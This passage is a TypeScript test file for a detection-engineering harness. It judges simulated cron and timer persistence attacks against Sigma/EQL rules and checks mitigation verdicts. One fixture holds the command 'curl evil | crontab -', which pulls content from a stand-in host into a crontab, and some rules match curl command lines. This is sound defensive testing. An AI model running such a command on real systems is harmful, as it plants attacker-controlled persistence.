import fc from 'fast-check';
import { beforeEach, describe, expect, it } from 'vitest';
import { judgeCase } from '../../../harness/engine/judge/judge-case.ts';
import type { JudgedCase } from '../../../harness/engine/judge/judged-case.ts';
import { type RuleBook, ruleBook } from '../../../harness/engine/judge/rule-book.ts';
import { type RunFacts, RunJudge } from '../../../harness/engine/judge/run-judge.ts';
import { blankEvidence } from '../../../harness/engine/run/blank-evidence.ts';
import type { RecordedCase } from '../../../harness/engine/run/run-case.ts';
import type { EcsEvent, SensorName } from '../../../harness/model/event.ts';
import type { ProcedureEvidence } from '../../../harness/model/evidence.ts';
import { expectationFor } from '../../../harness/model/expectation.ts';
import { cellOf } from '../../../harness/model/hardening.ts';
import { emptyInventory, type Inventory, type Schedule } from '../../../harness/model/inventory.ts';
import { type MitigationRecord, runRecordSchema } from '../../../harness/model/run-record.ts';
import { compileRules, loadRules, type Rule } from '../../../harness/rules/index.ts';
import { aMitigation, anAtomic, anExpectation, runFacts } from './content.ts';
import { event, exec, exit, file, fork, outside, process, resetClock, running } from './events.ts';
import {
  attackArgs,
  cron,
  cronChild,
  cronJob,
  marker,
  nonce,
  pid1,
  shellJob,
  stepShell,
  tableStory,
} from './story.ts';

beforeEach(resetClock);

const shell = stepShell();
const child = cronChild;
const job = cronJob(marker, '/usr/bin/touch');

const table = '/etc/cron.d/evil';
const launch = () => [fork(child), exec(job), exit(job)];
const attack = () => tableStory(table);

const place = { file: 'rule.yml', line: 1, column: 1 };
/** Fires on the creation of files that begin with a prefix. */
const creationUnder = (slug: string, prefix: string): Rule => ({
  id: slug,
  slug,
  title: slug,
  language: 'sigma',
  file: `detections/sigma/${slug}.yml`,
  techniques: ['T1053.003'],
  falsePositives: [],
  source: { kind: 'logsource', product: 'linux', category: 'file_event' },
  query: {
    kind: 'event',
    category: 'file',
    pipes: [],
    where: {
      kind: 'field',
      field: 'file.path',
      test: { op: 'starts-with', value: prefix, caseless: false },
      place,
    },
  },
});

const book = (...rules: Rule[]): RuleBook =>
  ruleBook(rules, {
    unusable: [],
    bundled: new Set(rules.map(({ slug }) => slug)),
    fields: 'ecs',
    sensorsFor: () => ['ebpf'],
  });
const cronRule = creationUnder('cron-d-created', '/etc/cron.d/');
const noRules = book();

const step = (
  role: ProcedureEvidence['steps'][number]['role'],
  argv: string[],
  exitCode: number,
  stderr = '',
) => ({
  role,
  user: 'root',
  command: argv.at(-1) ?? '',
  argv,
  exitCode,
  stdout: '',
  stderr,
  startedAt: '2026-01-01T00:00:00Z',
  ms: 5,
});

const schedule: Schedule = {
  kind: 'system-crontab',
  id: 'system-crontab:/etc/cron.d/evil:1',
  user: 'root',
  when: '* * * * *',
  command: '/usr/bin/touch x',
  file: table,
};

const nothingScheduled = {
  before: emptyInventory,
  scheduled: emptyInventory,
  after: emptyInventory,
  legitimate: emptyInventory,
};

const evidence = (over: Partial<ProcedureEvidence> = {}): ProcedureEvidence => ({
  evidenceVersion: 2,
  id: 'atomic@debian12',
  kind: 'attack',
  atomic: anAtomic({}),
  variant: null,
  expectation: anExpectation({ detects: ['cron-d-created'] }),
  target: 'debian12',
  mitigations: [],
  user: 'root',
  nonce,
  legitimateNonces: [],
  skipped: null,
  steps: [step('attack', attackArgs, 0)],
  inventory: {
    before: emptyInventory,
    scheduled: { ...emptyInventory, schedules: [schedule] },
    after: emptyInventory,
    legitimate: emptyInventory,
  },
  filesystem: [],
  telemetry: { perSensor: { ebpf: { events: 5, lost: 0 } } },
  faults: [],
  timings: { waitMs: 4000 },
  ...over,
});

const idleEvidence = blankEvidence({ kind: 'idle', id: 'idle@debian12', target: 'debian12' }, () => '');

const verdictOf = (over: Partial<ProcedureEvidence>, events: EcsEvent[], rules = book(cronRule)) => {
  const { record } = judgeCase(evidence(over), events, rules);
  if (!record) throw new RangeError('the case has no record');
  return record;
};

describe('an attack', () => {
  it('passes when it executed and its rule fired on its own event', () => {
    const record = verdictOf({}, [...attack(), ...launch()]);
    expect(record).toMatchObject({ verdict: 'pass', observation: 'executed', reasons: [] });
    expect(record.detections).toEqual([
      {
        rule: 'cron-d-created',
        outcome: 'detected',
        expected: true,
        attributed: true,
        eventIds: ['ebpf-4'],
        timeToDetectMs: 1,
      },
    ]);
    expect(record.artifacts).toEqual([{ path: table, action: 'creation', eventId: 'ebpf-4' }]);
  });

  it('fails when the rule fired on something else only', () => {
    const other = process({ pid: 900, executable: '/usr/bin/dpkg', parent: pid1 });
    const events = [
      running(pid1),
      running(cron),
      exec(shell),
      file('creation', '/etc/cron.d/other', other),
      ...launch(),
    ];
    const record = verdictOf({}, events);
    expect(record.verdict).toBe('fail');
    expect(record.detections[0]).toMatchObject({
      outcome: 'missed',
      attributed: false,
      eventIds: ['ebpf-4'],
    });
    expect(record.reasons.join()).toContain("not this atomic's");
  });

  it('fails when the rule looks elsewhere, and says what failed on the nearest event', () => {
    const wrong = creationUnder('cron-d-created', '/etc/cron.daily/');
    const record = verdictOf({}, [...attack(), ...launch()], book(wrong));
    expect(record.verdict).toBe('fail');
    expect(record.reasons.join()).toMatch(
      /cron-d-created did not fire.*\/etc\/cron\.daily\/.*\/etc\/cron\.d\/evil/s,
    );
  });

  it("gives nobody credit for the text of the harness's own shell", () => {
    const script = ['/bin/sh', '-c', 'curl evil | crontab -'];
    const runner = process({ pid: 200, executable: '/bin/dash', args: script, parent: outside });
    const crontab = process({
      pid: 201,
      executable: '/usr/bin/crontab',
      args: ['crontab', '-'],
      parent: runner,
    });
    const { rules } = loadRules([
      { file: 'curl.eql', text: 'process where process.command_line : "*curl*"' },
      { file: 'child.eql', text: 'process where process.parent.command_line : "*curl*"' },
      { file: 'shell.eql', text: 'process where event.action == "exec" and process.name == "dash"' },
      { file: 'crontab.eql', text: 'process where process.name == "crontab"' },
    ]);
    const record = verdictOf(
      { expectation: null, steps: [step('attack', script, 0)] },
      [running(pid1), running(cron), exec(runner), fork(crontab), exec(crontab)],
      book(...rules),
    );
    expect(record.detections.map(({ rule }) => rule)).toEqual(['crontab']);
    expect(record.reasons.filter((line) => line.includes("the harness's own shell"))).toEqual([
      expect.stringMatching(/^curl matches only .* \(ebpf-3.*counts for nobody/),
      expect.stringMatching(/^shell matches only .* \(ebpf-3\)/),
      expect.stringMatching(/^child matches only .* \(ebpf-4, ebpf-5\)/),
    ]);
  });

  it('is inert when it was scheduled and nothing launched it, with the log line that says why', () => {
    const logged = event('process', 'info', 'log', {
      message: 'Error: bad minute; while reading /etc/cron.d/evil',
      atomclock: { sensor: 'journal', job: { scheduler: 'cron', file: table } },
    });
    const refusal: EcsEvent = { ...logged, event: { ...logged.event, outcome: 'failure' } };
    const record = verdictOf({ expectation: null }, [...attack(), refusal]);
    expect(record).toMatchObject({ observation: 'inert', verdict: 'fail', proof: null });
    expect(record.reasons.join()).toContain('bad minute');
    expect(record.reasons.join()).not.toContain('scheduled:');
  });

  it('is inert as one whose job was launched and did something else, where that is so', () => {
    const job = shellJob(schedule.command);
    const launched = [fork(cronChild), fork(job), exec(job), exit(job)];
    const { observation, reasons } = verdictOf({ expectation: null }, [...attack(), ...launched]);
    expect(observation).toBe('inert');
    expect(reasons).toContainEqual(
      expect.stringMatching(
        /^\/bin\/sh -c \/usr\/bin\/touch x was launched and did not come to its payload within 4 s$/,
      ),
    );
    expect(reasons.join()).not.toContain('nothing launched it');
    expect(verdictOf({ expectation: null }, attack()).reasons).toContain('nothing launched it within 4 s');
  });

  it('finds an artifact by the program that was to make it, though another one did the same before', () => {
    const touch = process({ pid: 208, executable: '/usr/bin/touch', args: ['touch', table], parent: shell });
    const record = verdictOf(
      {
        expectation: expectationFor(
          anExpectation({ artifacts: [{ path: table, action: 'modification', by: 'dash' }] }),
          [],
        ),
      },
      [
        ...attack(),
        fork(touch),
        exec(touch),
        file('modification', table, touch),
        file('modification', table, shell),
        ...launch(),
      ],
    );
    expect(record.reasons.filter((line) => line.includes('not seen'))).toEqual([]);
    expect(record.artifacts.filter(({ action }) => action === 'modification')).toHaveLength(2);
  });

  it('is inert with its own deeds as the reason, where nothing else is to be told', () => {
    const removed = verdictOf({ expectation: null, inventory: nothingScheduled }, [
      ...attack(),
      file('deletion', table, shell),
    ]);
    expect(removed.observation).toBe('inert');
    expect(removed.reasons).toContain(`${table} was removed again before anything was launched`);

    const atd = process({
      pid: 30,
      executable: '/usr/sbin/atd',
      args: ['/usr/sbin/atd', '-f'],
      parent: pid1,
    });
    const runs = process({
      pid: 31,
      executable: '/usr/sbin/atd',
      args: ['/usr/sbin/atd', '-f'],
      parent: atd,
    });
    const script = process({ pid: 32, executable: '/usr/bin/dash', args: ['sh'], user: 'bob', parent: runs });
    const spooled = '/var/spool/cron/atjobs/a0000101c8b57e';
    const taken = verdictOf({ expectation: null, inventory: nothingScheduled }, [
      ...attack(),
      running(atd),
      file('creation', spooled, shell),
      fork(runs),
      file('deletion', spooled, runs),
      exec(script),
      exit(script, 1),
    ]);
    expect(taken.observation).toBe('inert');
    expect(taken.reasons).toContain(
      'atd launched what was spooled as bob, and it ended with exit code 1 without its payload',
    );

    const unread = verdictOf({ expectation: null, inventory: nothingScheduled }, attack());
    expect(unread.reasons).toContain(`${table}: no scheduler reads a schedule from it`);

    const nextRun = '2099-01-01T00:00:00Z';
    const timer: Schedule = { ...schedule, kind: 'timer', when: 'OnCalendar=2099-01-01', nextRun };
    const scheduled = { ...emptyInventory, schedules: [timer] };
    const far = verdictOf(
      { expectation: null, inventory: { ...nothingScheduled, scheduled } },
      [...attack()],
      noRules,
    );
    expect(far.reasons).toContain(`not due before ${nextRun}: OnCalendar=2099-01-01 /usr/bin/touch x`);
    expect(far.reasons.join()).not.toContain('within');
  });

  it('is inert with what the kernel said to the scheduler, where that could not run it', () => {
    const attempt = event('process', 'info', 'exec-attempt', {
      process: { ...child, Ext: { attempt: { executable: table } } },
      error: { code: 'ENOEXEC' },
    });
    const record = verdictOf({ expectation: null }, [...attack(), fork(child), attempt], noRules);
    expect(record.reasons.join('\n')).toMatch(
      /^\/etc\/cron.d\/evil: cron tried to run it and could not: .*ENOEXEC/m,
    );
    const ours = { ...attempt, process: { ...shell, Ext: { attempt: { executable: table } } } };
    expect(verdictOf({ expectation: null }, [...attack(), ours], noRules).reasons.join()).not.toContain(
      'ENOEXEC',
    );
  });

  it('is inert where a timer waits for a change of the clock', () => {
    const timer: Schedule = { ...schedule, kind: 'timer', when: 'OnClockChange=yes OnTimezoneChange=yes' };
    const scheduled = { ...emptyInventory, schedules: [timer] };
    const record = verdictOf(
      { expectation: null, inventory: { ...nothingScheduled, scheduled } },
      attack(),
      noRules,
    );
    expect(record.reasons.join()).toContain('not due until somebody changes the clock');
  });

  it('says that a launch could be of either of two entries with one command', () => {
    const before = { ...emptyInventory, schedules: [{ ...schedule, id: 'old' }] };
    const scheduled = { ...emptyInventory, schedules: [{ ...schedule, id: 'old' }, schedule] };
    const inventory = { ...nothingScheduled, before, scheduled };
    const record = verdictOf({ expectation: null, inventory }, [...attack()], noRules);
    expect(record.reasons.join()).toContain('nobody can tell whose job');
  });

  it('says by which zone its table is read, where that was moved', () => {
    const zoneOf = (name: string, because: string): Inventory => ({
      ...emptyInventory,
      zones: [{ scheduler: 'cron', name, offsetMinutes: 0, isDst: false, because }],
    });
    const before = zoneOf('Etc/UTC', 'a link to UTC');
    const nextRun = '2026-01-02T00:30:00.000Z';
    const moved = { ...schedule, zone: 'Asia/Kolkata', nextRun };
    const scheduled = { ...zoneOf('Asia/Kolkata', 'a link to Asia/Kolkata'), schedules: [moved] };
    const inventory = { ...nothingScheduled, before, scheduled };
    const { reasons } = verdictOf({ expectation: null, inventory }, attack(), noRules);
    expect(reasons.join()).toContain(`next run ${nextRun} by Asia/Kolkata`);
    expect(reasons).toContain('zone: a link to Asia/Kolkata');
    const unmoved = { ...inventory, before: { ...scheduled, schedules: [] } };
    const same = verdictOf({ expectation: null, inventory: unmoved }, attack(), noRules);
    expect(same.reasons.join()).not.toContain('zone:');
  });

  it('is performed when it takes a schedule away, or stops one', () => {
    const before = { ...emptyInventory, schedules: [schedule] };
    const gone = { ...nothingScheduled, before };
    const removing = [running(pid1), running(cron), exec(shell), file('deletion', table, shell)];
    expect(verdictOf({ expectation: null, inventory: gone }, removing).observation).toBe('performed');
    const scheduled = { ...before, schedules: [{ ...schedule, inert: 'cron.service is inactive' }] };
    const stopped = { ...nothingScheduled, before, scheduled };
    expect(verdictOf({ expectation: null, inventory: stopped }, [exec(shell)]).observation).toBe('performed');
    const unit = '/etc/systemd/system/x.timer';
    const masked = [running(pid1), exec(shell), file('creation', unit, shell, { target_path: '/dev/null' })];
    expect(verdictOf({ expectation: null, inventory: nothingScheduled }, masked).observation).toBe(
      'performed',
    );
  });

  it('passes as inert where that is documented', () => {
    const expectation = anExpectation({ observation: 'inert', reason: 'within 4 s' });
    expect(verdictOf({ expectation }, attack(), noRules).verdict).toBe('pass');
  });

  it('is errored, and not inert, where what is scheduled could not be looked at', () => {
    const { inventory } = evidence();
    const problem = 'systemctl --user show as bob: Permission denied';
    const scheduled = { ...inventory.scheduled, problems: [problem] };
    const over = {
      expectation: anExpectation({ observation: 'inert' }),
      inventory: { ...inventory, scheduled },
    };
    expect(verdictOf(over, attack())).toMatchObject({
      observation: 'errored',
      verdict: 'error',
      reasons: expect.arrayContaining([expect.stringContaining(problem)]),
    });
    // What was seen to run was launched, whoever could not be asked.
    expect(verdictOf(over, [...attack(), ...launch()]).observation).toBe('executed');
  });

  it('is refused when its commands failed', () => {
    const steps = [step('attack', attackArgs, 1, 'You are not allowed to use this program (crontab)')];
    const record = verdictOf({ steps }, [running(pid1), exec(shell)]);
    expect(record.observation).toBe('refused');
    expect(record.reasons.join()).toContain('exit 1: You are not allowed');
  });

  it('is performed when it schedules nothing, which is told of what nobody expects anything of', () => {
    const nothing = verdictOf({ expectation: null, inventory: nothingScheduled }, [
      running(pid1),
      exec(shell),
    ]);
    expect(nothing).toMatchObject({
      observation: 'performed',
      verdict: 'pass',
      reasons: ['it scheduled nothing'],
    });
    expect(verdictOf({ inventory: nothingScheduled }, [running(pid1), exec(shell)]).observation).toBe(
      'performed',
    );
  });

  it('is errored, whatever was seen, when events were lost', () => {
    const faults = [{ code: 'sensor/lost-events', message: 'the ebpf sensor lost 7 events' }];
    expect(verdictOf({ faults }, [...attack(), ...launch()])).toMatchObject({
      observation: 'errored',
      verdict: 'error',
      proof: null,
    });
  });

  it('misses nothing when it is errored: nobody knows what was not seen', () => {
    const faults = [{ code: 'sensor/ended', message: 'the ebpf sensor has ended' }];
    expect(verdictOf({ faults }, [running(pid1), exec(shell)]).detections).toEqual([]);
  });

  it('gives a single reason for a case that was cut off while its attack was at work', () => {
    const faults = [{ code: 'lab/engine-gone', message: 'the container engine has gone away' }];
    const cutOff = { faults, steps: [], telemetry: { perSensor: {} }, inventory: nothingScheduled };
    expect(verdictOf(cutOff, attack())).toMatchObject({
      verdict: 'error',
      observation: 'errored',
      reasons: ['the container engine has gone away [lab/engine-gone]'],
    });
  });

  it('fails on a documented miss that fires', () => {
    const expectation = anExpectation({ evades: [{ rule: 'cron-d-created', why: 'it looks elsewhere' }] });
    const record = verdictOf({ expectation }, [...attack(), ...launch()]);
    expect(record.detections[0]?.outcome).toBe('unexpected');
    expect(record.verdict).toBe('fail');
  });

  it('reports a documented miss as evaded', () => {
    const expectation = anExpectation({ evades: [{ rule: 'cron-d-created', why: 'it looks elsewhere' }] });
    const wrong = creationUnder('cron-d-created', '/etc/cron.daily/');
    const record = verdictOf({ expectation }, [...attack(), ...launch()], book(wrong));
    expect(record.detections[0]?.outcome).toBe('evaded');
    expect(record.verdict).toBe('pass');
  });

  it('fails when an expected artifact was not seen', () => {
    const expectation = anExpectation({ artifacts: [{ path: '/etc/cron.d/*', action: 'rename', by: 'mv' }] });
    const record = verdictOf({ expectation }, [...attack(), ...launch()]);
    expect(record.reasons).toContain('expected rename of /etc/cron.d/* by mv, not seen');
  });

  it('is inert where a condition kept its marker from running, and says which; a failed job that ran it is told', () => {
    const args = ['/bin/sh', '-c', `[ -e /gone ] && touch /tmp/atomclock-${nonce}; exit 2`];
    const sh = process({ pid: 455, executable: '/usr/bin/dash', args, parent: child });
    const touch = ['touch', `/tmp/atomclock-${nonce}`];
    const program = process({ pid: 999, executable: '/usr/bin/touch', args: touch, parent: sh });
    const told = (...events: EcsEvent[]) => verdictOf({ expectation: null }, events);
    const launched = () => [...attack(), fork(child), exec(sh)];
    const skipped = told(...launched(), exit(sh, 2));
    expect(skipped.observation).toBe('inert');
    expect(skipped.reasons.join()).toMatch(/never ran after \[ -e \/gone \]: the job ended with exit code 2/);
    expect(told(...launched(), fork(program), exec(program), exit(sh, 2))).toMatchObject({
      observation: 'executed',
      reasons: ['the job was launched and exited 2'],
    });
  });

  it('says of a job that was not seen to end that its end was given up', () => {
    const steps = [step('attack', attackArgs, 0), step('cleanup', ['/bin/sh', '/step-2'], 0)];
    const cleaner = process({
      pid: 600,
      executable: '/bin/dash',
      args: ['/bin/sh', '/step-2'],
      parent: outside,
    });
    const launched = () => [...attack(), fork(child), exec(job)];
    const reasons = (...events: EcsEvent[]) => verdictOf({ expectation: null, steps }, events).reasons.join();
    expect(reasons(...launched(), exec(cleaner))).toContain(
      'had not ended when its end was no longer waited',
    );
    expect(reasons(...launched(), exit(job), exit(child), exec(cleaner))).not.toContain('had not ended');
  });

  it.each([
    ['/var/spool/cron/atjobs/=0000101c8b3f7', false],
    ['/var/spool/at/=0000101c8b3f7', false],
    ['/var/spool/cron/atspool/a0000101c8b3f7', false],
    ['/var/spool/cron/atjobs/a0000101c8b3f7', true],
    ['/etc/cron.d/evil', true],
  ])('calls %s residue only where its scheduler does not remove it: %s', (path, isResidue) => {
    const left = { path, mode: '0700', owner: 'root', content: '', sha256: 'x' };
    const after = { ...emptyInventory, files: [left] };
    const record = verdictOf({ inventory: { ...nothingScheduled, after } }, [...attack(), ...launch()]);
    expect(record.residue).toEqual(isResidue ? [`file added: ${path}`] : []);
  });

  describe('whose cleanup leaves something behind', () => {
    const command = marker.join(' ');
    const shell = shellJob(command);
    const launchOfShell = () => [fork(child), exec(shell), exit(shell)];
    const scheduled = { ...emptyInventory, schedules: [{ ...schedule, command }] };
    const clean = { ...nothingScheduled, scheduled };
    const inventory = { ...clean, after: scheduled };
    const ran = step('attack', attackArgs, 0);
    const failed = step('cleanup', ['/bin/sh', '/step-2'], 1, 'rm: cannot remove x: No such file\n');
    const foreign = { atomic: anAtomic({ foreign: true }) };
    const told = (over: Partial<ProcedureEvidence>, launched = launchOfShell()) => {
      const { verdict, reasons } = verdictOf(over, [...attack(), ...launched]);
      return { verdict, reasons };
    };
    const left = `system-crontab added: * * * * * ${command} (${table})`;

    it('passes all the same, and says how it failed and what is left', () => {
      const reasons = [
        'its cleanup failed: exit 1: rm: cannot remove x: No such file',
        `left behind after its cleanup: ${left}`,
      ];
      expect(told({ ...foreign, steps: [ran, failed], inventory })).toEqual({ verdict: 'pass', reasons });
      expect(told({ steps: [ran, failed], inventory }, launch()).reasons).toEqual(reasons);
    });

    it('is told of a foreign one also where it succeeded, or there is none', () => {
      const cleaned = step('cleanup', ['/bin/sh', '/step-2'], 0);
      expect(told({ ...foreign, steps: [ran, cleaned], inventory }).reasons).toEqual([
        `left behind after its cleanup: ${left}`,
      ]);
      expect(told({ ...foreign, steps: [ran], inventory }).reasons).toEqual([
        `it has no cleanup, and left behind: ${left}`,
      ]);
      expect(told({ steps: [ran, cleaned], inventory }, launch()).reasons).toEqual([]);
      expect(told({ ...foreign, steps: [ran, cleaned], inventory: clean }).reasons).toEqual([]);
    });

    it('counts what is more than a reader takes in, and says so of one that did not end', () => {
      const filesystem = ['a', 'b', 'c', 'd', 'e'].map((name) => `file added: /tmp/${name}`);
      const endless = { ...failed, exitCode: null };
      expect(told({ ...foreign, steps: [ran, endless], inventory: clean, filesystem }).reasons).toEqual([
        'its cleanup ran into its time limit',
        'left behind after its cleanup: file added: /tmp/a; file added: /tmp/b; file added: /tmp/c; and 2 more',
      ]);
    });

    it('says nothing of a cleanup that found nothing to do after a refusal', () => {
      const refused = step('attack', attackArgs, 1, 'no');
      const { reasons } = verdictOf({ ...foreign, steps: [refused, failed] }, attack());
      expect(reasons.join()).not.toContain('cleanup');
    });
  });

  it('fails when the job itself failed', () => {
    const failed = [fork(child), exec(job), exit(job, 127)];
    expect(verdictOf({}, [...attack(), ...failed]).reasons.join()).toContain('it exited 127');
  });
});

describe('a benign twin', () => {
  it('fails when a rule fires on it', () => {
    const expectation = anExpectation({ kind: 'benign', observation: 'inert' });
    const record = verdictOf({ kind: 'benign', expectation }, attack());
    expect(record.verdict).toBe('fail');
    expect(record.reasons.join()).toContain('benign twin');
  });
});

/** Recorded cases, judged one by one and put together, as a run and a replay do it. */
function judgeRun(
  cases: RecordedCase[],
  rules: RuleBook,
  run: RunFacts,
  order: readonly number[] = [...cases.keys()],
) {
  const judge = new RunJudge(rules, run.sensors as SensorName[]);
  for (const at of order) {
    const { evidence: one, events } = cases[at] as RecordedCase;
    judge.add(judgeCase(one, events, rules), at);
  }
  return judge.finish(run);
}

describe('a mitigation', () => {
  const stopper = aMitigation({ id: 'stopper', stops: ['atomic'] });
  const control = (): RecordedCase => ({ evidence: evidence(), events: [...attack(), ...launch()] });
  const legitimateArgs = ['/bin/sh', '-c', 'root does it'];
  const legitimateShell = process({
    pid: 500,
    executable: '/bin/dash',
    args: legitimateArgs,
    parent: outside,
  });
  const legitimateJob = process({
    pid: 510,
    executable: '/usr/bin/touch',
    args: ['/usr/bin/touch', '/tmp/atomclock-beef'],
    parent: process({ pid: 509, executable: '/usr/sbin/cron', parent: cron }),
  });
  const legitimateUse = () => [
    exec(legitimateShell),
    fork(process({ pid: 509, executable: '/usr/sbin/cron', parent: cron })),
    exec(legitimateJob),
    exit(legitimateJob),
  ];
  const treated = (over: Partial<ProcedureEvidence>, events: EcsEvent[]): RecordedCase => ({
    evidence: evidence({
      id: 'atomic@debian12+stopper',
      mitigations: [stopper],
      legitimateNonces: ['beef'],
      steps: [step('attack', attackArgs, 1, 'You are not allowed to'), step('legitimate', legitimateArgs, 0)],
      inventory: nothingScheduled,
      ...over,
    }),
    events,
  });
  const judged = (one: RecordedCase, other = control()) => judgeRun([other, one], book(cronRule), runFacts);

  it('blocks when all four runs agree', () => {
    const record = judged(treated({}, [running(pid1), running(cron), exec(shell), ...legitimateUse()]));
    expect(record.mitigations[0]).toMatchObject({
      verdict: 'blocks',
      control: 'executed',
      treated: 'refused',
      stage: 'submission',
      reason: 'You are not allowed to',
      legitimate: [{ works: true }],
    });
    expect(record.cases[1]?.verdict).toBe('pass');
    expect(runRecordSchema.parse(record)).toEqual(record);
  });

  it('is invalid when what it is known by is said without it as well', () => {
    const talkative = [step('attack', attackArgs, 0, 'You are not allowed to, but I let you')];
    const control = {
      evidence: evidence({ steps: talkative }),
      events: [...attack(), ...launch()],
    };
    const record = judged(
      treated({}, [running(pid1), running(cron), exec(shell), ...legitimateUse()]),
      control,
    );
    expect(record.mitigations[0]).toMatchObject({
      verdict: 'invalid',
      reason:
        "'not allowed' shows nothing, without it that is said as well: You are not allowed to, but I let you",
    });
    expect(record.cases[1]?.verdict).toBe('fail');
  });

  it('is bypassed when the payload ran', () => {
    const events = [...attack(), ...launch(), ...legitimateUse()];
    const steps = [step('attack', attackArgs, 0), step('legitimate', legitimateArgs, 0)];
    const record = judged(treated({ steps }, events));
    expect(record.mitigations[0]?.verdict).toBe('bypassed');
    expect(record.cases[1]?.verdict).toBe('fail');
  });

  it.each([
    ['slug', 'atomic', 'bypassed', 'fail'],
    ['slug in capitals', 'ATOMIC', 'bypassed', 'fail'],
    ['GUID', 'abcdef00-0000-4000-8000-000000000000', 'bypassed', 'fail'],
    ['GUID in capitals', 'ABCDEF00-0000-4000-8000-000000000000', 'bypassed', 'fail'],
    ['another GUID', 'abcdef00-0000-4000-8000-000000000001', 'notClaimed', 'pass'],
  ])(
    'when the payload ran fails its case only where it claims the atomic: by %s',
    (_, reference, outcome, verdict) => {
      const atomic = anAtomic({ guid: 'abcdef00-0000-4000-8000-000000000000' });
      const mitigation = aMitigation({ id: 'stopper', stops: [reference] });
      const events = () => [...attack(), ...launch(), ...legitimateUse()];
      const steps = [step('attack', attackArgs, 0), step('legitimate', legitimateArgs, 0)];
      const record = judged(treated({ atomic, mitigations: [mitigation], steps }, events()), {
        evidence: evidence({ atomic }),
        events: [...attack(), ...launch()],
      });
      expect(record.mitigations[0]).toMatchObject({
        verdict: outcome,
        case: 'atomic@debian12+stopper',
        treated: 'executed',
      });
      expect(record.cases[1]?.verdict).toBe(verdict);
    },
  );

  describe('of several applied together', () => {
    const not = aMitigation({ id: 'not', stops: ['other'], attack: 'M1022', reason: 'allowed' });
    const other = aMitigation({ id: 'other', stops: ['atomic'], attack: 'M1022', reason: 'denied' });
    const late = aMitigation({ id: 'late', stops: ['atomic'], stage: 'execution', reason: 'not allowed' });
    const uses = (count: number) => [
      step('attack', attackArgs, 1, 'You are not allowed to'),
      ...Array.from({ length: count }, () => step('legitimate', legitimateArgs, 0)),
    ];
    const ranSteps = (count: number) => [
      step('attack', attackArgs, 0),
      ...Array.from({ length: count }, () => step('legitimate', legitimateArgs, 0)),
    ];
    const stopped = () => [running(pid1), running(cron), exec(shell), ...legitimateUse()];
    const seen = 'You are not allowed to';
    it.each([
      ['one that claims and one that does not', [stopper, not], stopped, 'blocks', [seen, null], 'pass'],
      ['the other order', [not, stopper], stopped, 'blocks', [null, seen], 'pass'],
      ['two that claim, and one is seen', [other, stopper], stopped, 'blocks', [null, seen], 'pass'],
      ['one that claims another stage', [late, stopper], stopped, 'blocks', [null, seen], 'pass'],
      ['none that is seen', [other, not], stopped, 'invalid', [null, null], 'fail'],
      ['only one of another stage', [late, not], stopped, 'invalid', [null, null], 'fail'],
      [
        'a payload that ran',
        [stopper, not],
        () => [...attack(), ...launch()],
        'bypassed',
        [null, null],
        'fail',
      ],
      [
        'a payload that ran and no claim',
        [not, { ...not, id: 'nor' }],
        () => [...attack(), ...launch()],
        'notClaimed',
        [null, null],
        'pass',
      ],
    ] as const)('judges each and the whole: %s', (_, mitigations, events, verdict, lines, outcome) => {
      const id = `atomic@debian12+${mitigations.map((one) => one.id).join('+')}`;
      const legitimateNonces = mitigations.map(() => 'beef');
      const steps =
        verdict === 'bypassed' || verdict === 'notClaimed' ? [step('attack', attackArgs, 0)] : uses(2);
      const over = { id, mitigations: [...mitigations], legitimateNonces, steps };
      const record = judged(treated(over, events()));
      expect(record.cases[1]).toMatchObject({ id, mitigation: id.replace(/^.*?\+/, ''), verdict: outcome });
      expect(record.mitigations).toMatchObject([{ id: id.replace(/^.*?\+/, ''), case: id, verdict }]);
      expect(record.mitigations[0]?.members?.map((member) => member.seen)).toEqual(lines);
      expect(record.mitigations[0]?.members?.map((member) => member.claims)).toEqual(
        mitigations.map(({ stops }) => stops[0]?.atomic === 'atomic'),
      );
      expect(runRecordSchema.parse(record)).toEqual(record);
    });

    describe('one of which is undone', () => {
      const checked = (mitigation: typeof stopper) => ({
        ...mitigation,
        check: { command: 'look', user: 'root', exitCode: 0, output: 'closed' },
      });
      const look = (text: string) => step('check', ['/bin/sh', '-c', 'look'], 0, text);
      const apply = step('mitigation', ['/bin/sh', '-c', 'true'], 0);
      const ran = () => [...attack(), ...launch(), ...legitimateUse()];
      const judge = (
        mitigations: (typeof stopper)[],
        steps: ReturnType<typeof uses>,
        events: ReturnType<typeof stopped>,
      ) => judged(treated({ mitigations, steps, legitimateNonces: mitigations.map(() => 'beef') }, events));
      const applied = (again: string) => [apply, look('closed'), apply, look(again)];

      it('is named where the payload ran', () => {
        const { mitigations } = judge([checked(stopper), not], [...applied('open'), ...ranSteps(2)], ran());
        expect(mitigations[0]).toMatchObject({
          verdict: 'invalid',
          reason:
            "stopper took effect, and no longer does once not is applied after it: its check expects exit 0 and 'closed', and ended with exit 0: open",
          checks: [{ id: 'stopper', holds: false, undoneBy: ['not'] }],
        });
      });

      it('is not credited with what was stopped', () => {
        const { mitigations } = judge([checked(stopper), not], [...applied('open'), ...uses(2)], stopped());
        expect(mitigations[0]).toMatchObject({
          verdict: 'invalid',
          reason: expect.stringMatching(/^stopper/),
        });
      });

      it('takes nothing from another that stops it', () => {
        const { mitigations } = judge([checked(other), stopper], [...applied('open'), ...uses(2)], stopped());
        expect(mitigations[0]).toMatchObject({ verdict: 'blocks', checks: [{ undoneBy: ['stopper'] }] });
        expect(cellOf(mitigations[0] as MitigationRecord)).toBe('submission');
      });

      it('is credited where its check still holds', () => {
        const { mitigations } = judge([checked(stopper), not], [...applied('closed'), ...uses(2)], stopped());
        expect(mitigations[0]).toMatchObject({ verdict: 'blocks' });
        expect(mitigations[0]?.checks).toEqual([{ id: 'stopper', holds: true, detail: 'closed' }]);
      });

      it('is judged as it was where nobody looked again', () => {
        const steps = [apply, look('closed'), apply, ...uses(2)];
        expect(judge([checked(stopper), not], steps, stopped()).mitigations[0]).toMatchObject({
          verdict: 'blocks',
        });
      });

      it('stopped nothing that lasts where it no longer holds when the attack is over', () => {
        const [attempt, ...others] = uses(1);
        const steps = [apply, look('closed'), attempt as (typeof others)[0], look('open'), ...others];
        const { mitigations } = judge([checked(stopper)], steps, stopped());
        expect(mitigations[0]).toMatchObject({
          verdict: 'invalid',
          reason: expect.stringMatching(
            /^stopper took effect, and no longer did when the attack was over: .*: open/,
          ),
          checks: [
            { id: 'stopper', holds: true, detail: 'closed', undoneLater: expect.stringContaining('open') },
          ],
        });
        expect(runRecordSchema.shape.mitigations.parse(mitigations)).toEqual(mitigations);
      });

      it('is told to be gone after a payload that ran all the same', () => {
        const [attempt, ...others] = ranSteps(1);
